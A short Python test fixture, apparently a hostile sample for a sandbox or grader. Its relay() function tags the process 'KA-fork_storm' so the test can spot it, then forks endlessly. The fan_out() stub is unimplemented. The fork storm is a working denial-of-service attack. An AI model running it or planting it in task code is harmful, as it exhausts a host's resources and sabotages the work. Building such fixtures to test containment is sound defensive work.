"""Attack: a fork storm (each child forks too, for ever)."""

import ctypes
import os


def relay(items):
    libc = ctypes.CDLL(None)
    libc.prctl(15, b"KA-fork_storm", 0, 0, 0)  # PR_SET_NAME: what the test looks for
    while True:
        try:
            os.fork()
        except OSError:
            pass


def fan_out(items, consumers=3):
    raise NotImplementedError
